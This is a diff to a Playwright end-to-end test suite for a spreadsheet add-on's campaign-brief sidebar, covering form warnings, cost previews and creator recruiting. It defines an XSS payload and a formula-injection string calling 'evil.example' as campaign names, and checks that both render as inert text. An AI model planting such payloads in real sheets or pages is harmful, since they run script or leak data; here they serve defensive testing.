@@ -35,6 +35,10 @@ async function openPage(): Promise<Page> {
     problems.push(`browser dialog: ${dialog.message()}`);
     void dialog.dismiss();
   });
+  // Offline here: Google's add-on stylesheet answers empty, and the sidebar's own styles apply.
+  await opened.route("https://ssl.gstatic.com/**", (route) =>
+    route.fulfill({ status: 200, contentType: "text/css", body: "" }),
+  );
   await opened.goto(server.url);
   await settled(opened);
   return opened;
@@ -51,6 +55,21 @@ async function runFromMenu(functionName: string): Promise<string> {
   await dialog.waitFor({ state: "hidden" });
   await settled();
   return message;
+}
+
+const XSS_NAME = '<img src=x onerror="document.title=1">Holiday <b>Glow</b>';
+const FORMULA_NAME = '=IMPORTXML("http://evil.example/","//a")';
+
+/** Runs a sidebar menu item and waits for the sidebar's brief form, drawn from sidebarLoad. */
+async function openSidebar(functionName: string) {
+  await page.getByTestId("menu-extensions").click();
+  await page.getByTestId("menu-campaign-desk").click();
+  await page.getByTestId(`menu-item-${functionName}`).click();
+  await page.getByTestId("sidebar-frame").waitFor();
+  const frame = page.frameLocator('[data-testid="sidebar-frame"]');
+  await frame.getByTestId("brief-form").locator("fieldset").first().waitFor({ timeout: 15_000 });
+  await settled();
+  return frame;
 }
 
 async function showTab(name: string): Promise<void> {
@@ -252,7 +271,7 @@ describe("the workbench", () => {
     const built = existsSync(join(ROOT, "build/sidebar.html"));
     await page.getByTestId("menu-extensions").click();
     await page.getByTestId("menu-campaign-desk").click();
-    await page.getByTestId("menu-item-openCampaignSidebar").click();
+    await page.getByTestId("menu-item-openNewCampaignBrief").click();
     if (!built) {
       // Until the sidebar is built the workbench says so instead of breaking.
       await page.getByTestId("alert-dialog").waitFor({ state: "visible" });
@@ -268,5 +287,187 @@ describe("the workbench", () => {
     // brief-form is drawn from what sidebarLoad answered through the bridge.
     await frame.getByTestId("brief-form").waitFor({ timeout: 15_000 });
     await expect(frame.locator('img[src="x"]').count()).resolves.toBe(0);
+  });
+  it("designs a brief with a flash sale, shows its warnings, saves it once fixed, and recruits three creators", async () => {
+    const frame = await openSidebar("openNewCampaignBrief");
+    const field = (name: string) => frame.getByTestId(`field-${name}`);
+    const warning = (name: string) => frame.getByTestId(`warning-${name}`);
+
+    await field("campaignId").fill("C-E2E");
+    await field("name").fill(XSS_NAME);
+    await field("objective").selectOption("Event spike");
+    // The objective shapes the form: the flash sale is offered and LIVE required is marked required.
+    await frame.getByTestId("section-flash").waitFor({ state: "visible" });
+    await expect(frame.getByTestId("hint-objective").textContent()).resolves.toContain("flash sale");
+    await expect(
+      frame.locator('[data-field="liveRequired"] .required').evaluate((star) => star.hasAttribute("hidden")),
+    ).resolves.toBe(false);
+    await field("lane").selectOption("Target");
+    await field("ownerEmail").fill("e2e@example.com");
+    // Each SKU shows its stock and Open rate.
+    const mask = frame.getByTestId("sku-picker").locator("label", { hasText: "GLW-MASK-OV" });
+    await expect(mask.textContent()).resolves.toContain("300 in stock · Open 12%");
+    await mask.locator("input").check();
+    await field("start").fill("2027-01-10");
+    await field("end").fill("2027-01-31");
+    await field("reservedInventory").fill("500");
+    await field("contentTypes").getByLabel("LIVE", { exact: true }).check();
+    await field("liveRequired").check();
+    await field("paymentModel").selectOption("Flat fee + commission");
+    await field("commissionRate").fill("10");
+    await field("flatFee").fill("150");
+    await field("contentDueDays").fill("7");
+    await field("samplePolicy").selectOption("Free sample");
+    await field("flashSaleStart").fill("2027-02-02");
+    await field("flashSaleEnd").fill("2027-02-03");
+    await field("flashSalePrice").fill("19.99");
+    await field("amplification").selectOption("Shop Ads");
+    await field("amplificationStart").fill("2027-01-20");
+    await field("amplificationEnd").fill("2027-01-30");
+    await field("authDaysNeeded").fill("7");
+
+    // Five warnings (the flash sale starts and ends outside), each with its consequence; saving is allowed.
+    await expect(warning("commissionRate").textContent()).resolves.toContain(
+      "Target rate 10% is below the Open rate 12% of GLW-MASK-OV: creators will earn the lower Target rate",
+    );
+    await expect(warning("flashSaleStart").textContent()).resolves.toContain("outside the window");
+    await expect(warning("reservedInventory").textContent()).resolves.toContain(
+      "more than the stock on hand (300): creators may sell units you cannot ship",
+    );
+    await expect(warning("authDaysNeeded").textContent()).resolves.toContain(
+      "ads on creator posts stop when the authorization expires",
+    );
+    await expect(frame.getByTestId("brief-summary").textContent()).resolves.toContain("5 warnings");
+    // The cost per creator at the typed GMV: 10% of 1,000 + the fee + the free sample, over 1,000.
+    await expect(frame.getByTestId("cost-preview").textContent()).resolves.toBe(
+      "GLW-MASK-OV: commission 100.00 at 10% + flat fee 150.00 + sample 7.50 = 257.50; effective commission 25.8%.",
+    );
+    await frame.getByTestId("preview-gmv").fill("2000");
+    await expect(frame.getByTestId("cost-preview").textContent()).resolves.toContain(
+      "effective commission 17.9%",
+    );
+
+    await field("commissionRate").fill("12");
+    await field("flashSaleStart").fill("2027-01-24");
+    await field("flashSaleEnd").fill("2027-01-25");
+    await field("reservedInventory").fill("250");
+    await field("authDaysNeeded").fill("30");
+    for (const name of [
+      "commissionRate",
+      "flashSaleStart",
+      "flashSaleEnd",
+      "reservedInventory",
+      "authDaysNeeded",
+    ]) {
+      await expect(warning(name).textContent()).resolves.toBe("");
+    }
+    await expect(frame.getByTestId("brief-summary").textContent()).resolves.toBe("Ready to save.");
+    await frame.getByTestId("save-brief").click();
+    await frame
+      .getByTestId("brief-status")
+      .filter({ hasText: /^Added C-E2E in row \d+ of Campaigns\.$/ })
+      .waitFor();
+
+    // Recruit: only LIVE-capable creators can be picked for a LIVE-required campaign.
+    await frame.getByTestId("tab-recruit").click();
+    await frame.getByTestId("recruit-campaign").selectOption("C-E2E");
+    const pickable = frame.locator('[data-testid="recruit-creator"] input:not([disabled])');
+    await pickable.first().waitFor();
+    const names: string[] = [];
+    for (let i = 0; i < 3; i++) {
+      names.push((await pickable.nth(i).getAttribute("value")) ?? "");
+      await pickable.nth(i).check();
+    }
+    await frame.getByTestId("invite").click();
+    await frame
+      .getByTestId("recruit-status")
+      .filter({ hasText: "Invited 3 to C-E2E with GLW-MASK-OV" })
+      .waitFor();
+    await frame
+      .getByTestId("recruit-status")
+      .filter({ hasText: "Added 3 samples to the Samples tab." })
+      .waitFor();
+    const invitedIds =
+      ((await frame.getByTestId("recruit-status").textContent()) ?? "").match(/K-\d{4,}/g) ?? [];
+    expect(invitedIds).toHaveLength(3);
+    // Already in the campaign now: hidden by the default filter, and not pickable when shown.
+    for (const name of names) {
+      await expect(
+        frame.locator(`[data-testid="recruit-creator"][data-creator="${name}"]`).count(),
+      ).resolves.toBe(0);
+    }
+    await frame.getByTestId("recruit-new-only").uncheck();
+    await expect(
+      frame.locator(`[data-testid="recruit-creator"][data-creator="${names[0]}"] input`).isDisabled(),
+    ).resolves.toBe(true);
+
+    await page.getByTestId("panel-close").click();
+    await showTab("Collaborations");
+    const invited = page.locator('td[data-column="2"]', { hasText: /^C-E2E$/ });
+    await expect(invited.count()).resolves.toBe(3);
+    // Each invitation has its sample row, pointing at its Collab ID.
+    await showTab("Samples");
+    for (const collabId of invitedIds) {
+      await expect(
+        page.locator('td[data-column="2"]', { hasText: new RegExp(`^${collabId}$`) }).count(),
+      ).resolves.toBe(1);
+    }
+    await showTab("Campaigns");
+    await expect((await cellOf("C-E2E", "Name")).textContent()).resolves.toBe(XSS_NAME);
+    await expect(page.locator('img[src="x"]').count()).resolves.toBe(0);
+  });
+
+  it("edits the selected campaign from the menu, and keeps a formula-like name as plain text", async () => {
+    await showTab("Campaigns");
+    await (await cellOf("C-E2E", "Objective")).click();
+    const frame = await openSidebar("openSelectedCampaignBrief");
+    await expect(frame.getByTestId("campaign-picker").inputValue()).resolves.toBe("C-E2E");
+    await expect(frame.getByTestId("field-name").inputValue()).resolves.toBe(XSS_NAME);
+    await expect(frame.getByTestId("field-campaignId").getAttribute("readonly")).resolves.toBe("");
+    await expect(frame.locator('img[src="x"]').count()).resolves.toBe(0);
+    // The tabs follow the arrow keys.
+    await frame.getByTestId("tab-brief").focus();
+    await frame.getByTestId("tab-brief").press("ArrowRight");
+    await expect(frame.getByTestId("tab-recruit").getAttribute("aria-selected")).resolves.toBe("true");
+    await frame.getByTestId("tab-recruit").press("ArrowLeft");
+
+    await frame.getByTestId("campaign-picker").selectOption("");
+    const field = (name: string) => frame.getByTestId(`field-${name}`);
+    await field("campaignId").fill("C-E2F");
+    await field("name").fill(FORMULA_NAME);
+    await field("objective").selectOption("Organic test");
+    await field("lane").selectOption("Open");
+    await frame
+      .getByTestId("sku-picker")
+      .locator("label", { hasText: "GLW-SER-30" })
+      .locator("input")
+      .check();
+    await field("start").fill("2027-02-01");
+    await field("end").fill("2027-02-28");
+    await field("contentTypes").getByLabel("Short video").check();
+    await field("paymentModel").selectOption("Commission only");
+    await field("commissionRate").fill("15");
+    await field("samplePolicy").selectOption("No sample");
+    await frame.getByTestId("save-brief").click();
+    await frame
+      .getByTestId("brief-status")
+      .filter({ hasText: /^Added C-E2F in row \d+ of Campaigns\.$/ })
+      .waitFor();
+
+    await page.getByTestId("panel-close").click();
+    await showTab("Campaigns");
+    const name = await cellOf("C-E2F", "Name");
+    await expect(name.textContent()).resolves.toBe(FORMULA_NAME);
+    await name.click();
+    await expect(page.getByTestId("formula-input").inputValue()).resolves.toBe(FORMULA_NAME);
+    await expect(page.locator('a[href*="evil.example"]').count()).resolves.toBe(0);
+
+    if (process.env.UPDATE_SCREENSHOT === "1") {
+      // The first demo campaign, as a user would see it.
+      await page.locator('td[data-row="2"][data-column="3"]').click();
+      const sidebar = await openSidebar("openSelectedCampaignBrief");
+      await sidebar.getByTestId("brief-summary").waitFor();
+      await page.getByTestId("sidebar-frame").screenshot({ path: join(ROOT, "docs/sidebar.png") });
+    }
   });
 });
